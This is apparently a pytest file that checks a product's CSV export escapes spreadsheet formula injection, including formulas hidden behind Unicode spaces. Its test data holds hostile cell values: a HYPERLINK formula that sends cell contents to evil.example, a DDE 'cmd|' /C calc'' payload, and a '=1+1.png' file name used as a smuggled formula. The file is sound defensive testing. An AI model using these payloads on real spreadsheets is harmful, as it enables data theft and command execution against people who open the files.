"""Issue 8, item 3: every CSV the product writes is formula-safe, and Streamlit's own table
download (which wrote raw merchant text) is off."""

from __future__ import annotations

import csv
import io
import tomllib

import pandas as pd
import pytest

from core.engine.csv_safe import formula_safe
from core.store.feedback import feedback_columns, feedback_csv
from tests.conftest import ROOT, encode

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    " =1+1",
    "\uff1dcmd|' /C calc'!A0",
    "line one\rline two",
    "a\r\nb",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralized(text):
    out = formula_safe(text)
    assert "\r" not in out
    if text.lstrip(" ")[:1] in "=+-@\t\uff1d":
        assert out.startswith("'")


@pytest.mark.parametrize(
    "space",
    [
        "\u00a0",
        "\u00a0\u00a0",
        "\u2007",
        "\u202f",
        "\u3000",
        "\u2003",
        "\x0b",
        "\x85",
        "\u2028",
        "\ufeff",
        "\u200b",
        " \u00a0 ",
    ],
)
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\uff1d"])
def test_formula_starts_after_any_kind_of_space_are_neutralized(space, start):
    """Only ASCII spaces were looked past: a no-break space (U+00A0) before '=' left the formula
    as it was. LibreOffice 7.4 keeps such a cell as text (checked: CSV import with 'Evaluate
    formulas', with and without 'Trim spaces', which trims ASCII spaces only), but a program that
    trims Unicode spaces would run it; an apostrophe is harmless."""
    assert formula_safe(f"{space}{start}HYPERLINK(1)") == f"'{space}{start}HYPERLINK(1)"


def test_every_unicode_space_is_looked_past():
    """The list of spaces holds every character Python calls a space (tab, CR and LF are formula
    starts of their own), so a space missing from it cannot hide a formula."""
    import sys

    from core.engine.csv_safe import FORMULA_START, LEADING_SPACES

    spaces = {c for c in map(chr, range(sys.maxunicode + 1)) if c.isspace()}
    assert spaces - set(LEADING_SPACES) == set(FORMULA_START) & spaces == {"\t", "\n", "\r"}
    assert formula_safe("\u00a0price list") == "\u00a0price list" and formula_safe("a\u00a0=b") == "a\u00a0=b"


def test_plain_text_and_numbers_are_untouched():
    assert formula_safe("mug_01.jpg") == "mug_01.jpg" and formula_safe(3.5) == 3.5 and formula_safe(None) is None


def test_feedback_csv_with_hostile_merchant_text():
    row = {c: "" for c in feedback_columns()}
    row.update(file_name=HOSTILE[0], sku="+1+1", comment="@SUM(1)\rnext", merchant_id="-x", review_id=1)
    data = feedback_csv(pd.DataFrame([row], columns=feedback_columns()))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2  # a bare CR did not split the row
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["file_name"].startswith("'=") and cells["sku"] == "'+1+1" and cells["merchant_id"] == "'-x"
    assert cells["comment"] == "'@SUM(1)\nnext"


def test_score_csv_path_column(tmp_path, product):
    from core.cli.main import main

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=1+1.png").write_bytes(encode(product[::4, ::4]))
    out = tmp_path / "scores.csv"
    main(["score", str(folder), "--out", str(out), "--workers", "1"])
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert len(rows) == 1 and rows[0]["path"].startswith(str(folder))  # a full path does not start with '='
    import os

    cwd = os.getcwd()
    try:
        os.chdir(folder)
        main(["score", "=1+1.png", "--out", str(out), "--workers", "1"])
    finally:
        os.chdir(cwd)
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert rows[0]["path"] == "'=1+1.png"


def test_streamlit_table_download_is_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
